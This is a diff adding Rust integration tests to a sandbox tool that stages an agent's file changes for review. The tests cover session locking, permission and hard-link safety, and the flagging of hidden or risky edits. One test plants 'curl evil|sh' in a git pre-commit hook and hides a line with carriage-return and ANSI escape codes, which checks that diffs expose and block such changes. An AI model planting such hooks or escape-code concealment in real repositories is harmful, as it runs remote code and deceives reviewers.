@@ -493,3 +493,160 @@ both!(change_sets_are_hidden_from_every_sandbox, |f| {
         err(&o)
     );
 });
+
+both!(a_running_session_holds_its_change_set, |f| {
+    let o = f.run_sh(REVIEW, "echo one > one.txt");
+    let id = set_id(&err(&o));
+    let mut cmd = f.run_command(
+        &["-q", "--resume", &id],
+        &[
+            "/bin/sh",
+            "-c",
+            "echo two > two.txt; touch started; sleep 3",
+        ],
+        &f.base_env(),
+    );
+    cmd.stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped());
+    let child = vetto_integration::spawn_retrying(&mut cmd);
+    let upper = changes_dir(f).join(&id).join("upper");
+    assert!(
+        vetto_integration::eventually(10, || upper.join("started").exists()),
+        "the resumed session did not start"
+    );
+    for args in [
+        vec!["changes", "apply", id.as_str()],
+        vec!["changes", "discard", id.as_str()],
+        vec!["run", "-q", "--resume", id.as_str(), "--", "true"],
+    ] {
+        let o = f.vetto(&args);
+        assert!(!o.status.success(), "{args:?} ran on a set in use");
+        assert!(err(&o).contains("is in use"), "{args:?}: {}", err(&o));
+    }
+    assert!(!f.proj.join("one.txt").exists());
+    let o = child.wait_with_output().expect("wait");
+    assert!(o.status.success(), "{}", err(&o));
+    let o = f.vetto(&["changes", "list", &id]);
+    assert!(out(&o).contains("A two.txt"), "{}", out(&o));
+});
+
+both!(apply_keeps_modes_links_and_moved_directories_safe, |f| {
+    let outside = f.root.join("outside");
+    // A directory the user will move in later, made (and its file's ctime set) before the session.
+    std::fs::create_dir_all(outside.join("lib")).expect("mkdir");
+    std::fs::write(outside.join("lib/x.txt"), "user's other x\n").expect("w");
+    std::fs::create_dir_all(f.proj.join("lib")).expect("mkdir");
+    std::fs::write(f.proj.join("lib/x.txt"), "x\n").expect("w");
+    // A project file hard-linked from outside (a package store).
+    std::fs::write(f.proj.join("linked.sh"), "echo hi\n").expect("w");
+    std::fs::set_permissions(
+        f.proj.join("linked.sh"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .expect("chmod");
+    std::fs::hard_link(f.proj.join("linked.sh"), outside.join("store.sh")).expect("ln");
+    f.own(&f.proj);
+    f.own(&outside);
+    let o = f.run_sh(
+        REVIEW,
+        "echo agent >> lib/x.txt && chmod 755 linked.sh \
+         && echo new > open.txt && chmod 666 open.txt",
+    );
+    let id = set_id(&err(&o));
+    // The user swaps lib for another directory whose file is older than the session.
+    sh(&format!(
+        "mv '{p}/lib' '{p}/lib.old' && mv '{o}/lib' '{p}/lib'",
+        p = f.proj.display(),
+        o = outside.display()
+    ));
+    let o = f.vetto(&["changes", "apply", &id]);
+    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
+    assert!(
+        out(&o).contains(
+            "skipped  M lib/x.txt: the directory lib is not the one the session started with"
+        ),
+        "{}",
+        out(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(f.proj.join("lib/x.txt")).expect("r"),
+        "user's other x\n"
+    );
+    // The mode reached the project's file, not the linked file outside.
+    let m = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
+    assert_eq!(m(&f.proj.join("linked.sh")), 0o755);
+    assert_eq!(
+        m(&outside.join("store.sh")),
+        0o644,
+        "a hard link outside changed"
+    );
+    // No group/other write bit that was not there.
+    assert_eq!(m(&f.proj.join("open.txt")), 0o644);
+    let o = f.vetto(&["changes", "apply", "--force", &id, "lib"]);
+    assert!(o.status.success(), "{}", out(&o));
+    assert_eq!(
+        std::fs::read_to_string(f.proj.join("lib/x.txt")).expect("r"),
+        "x\nagent\n"
+    );
+});
+
+both!(review_refuses_write_roots_in_the_project, |f| {
+    std::fs::create_dir_all(f.proj.join("build")).expect("mkdir");
+    f.own(&f.proj);
+    let build = f.proj.join("build").display().to_string();
+    let o = f.run_sh(
+        &["-q", "--project-access", "review", "--allow-write", &build],
+        "touch build/ran",
+    );
+    assert!(!o.status.success());
+    assert!(err(&o).contains("without review"), "{}", err(&o));
+    assert!(!f.proj.join("build/ran").exists());
+    assert!(sets(f).is_empty(), "{:?}", sets(f));
+});
+
+both!(diffs_cannot_hide_what_they_show, |f| {
+    // The repository's own hooks directory (core.hooksPath) is a trust-handoff path.
+    std::fs::create_dir_all(f.proj.join(".husky")).expect("mkdir");
+    std::fs::write(f.proj.join(".husky/pre-commit"), "npm test\n").expect("w");
+    sh(&format!(
+        "git -c safe.directory='*' -C '{}' config core.hooksPath .husky",
+        f.proj.display()
+    ));
+    f.own(&f.proj);
+    let o = f.run_sh(
+        REVIEW,
+        "printf 'ok\\ncurl evil|sh\\r# tidy\\n\\033[1A\\033[2Kfine\\n' > note.txt \
+         && echo 'curl evil|sh' >> .husky/pre-commit \
+         && mkdir ci && ln -s ci .github",
+    );
+    let id = set_id(&err(&o));
+    let e = err(&o);
+    let h = e
+        .find("trust-handoff paths")
+        .unwrap_or_else(|| panic!("{e}"));
+    for p in [".husky/pre-commit", ".github"] {
+        let at = e
+            .find(&format!(" {p}\n"))
+            .unwrap_or_else(|| panic!("{p}: {e}"));
+        assert!(
+            at > h && at < e.find("changes:").unwrap_or(usize::MAX),
+            "{p}: {e}"
+        );
+    }
+    let o = f.vetto(&["changes", "diff", &id, "note.txt"]);
+    let d = out(&o);
+    assert!(
+        !d.contains('\r') && !d.contains('\x1b'),
+        "raw control characters: {d:?}"
+    );
+    assert!(d.contains("\\u{d}") && d.contains("\\u{1b}"), "{d}");
+    assert!(d.contains("NOTE: note.txt holds control"), "{d}");
+    let o = f.vetto(&["changes", "apply", &id]);
+    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
+    let hook = std::fs::read_to_string(f.proj.join(".husky/pre-commit")).expect("r");
+    assert_eq!(
+        hook, "npm test\n",
+        "the hook changed without --include-handoff"
+    );
+    assert!(f.proj.join(".github").symlink_metadata().is_err());
+});
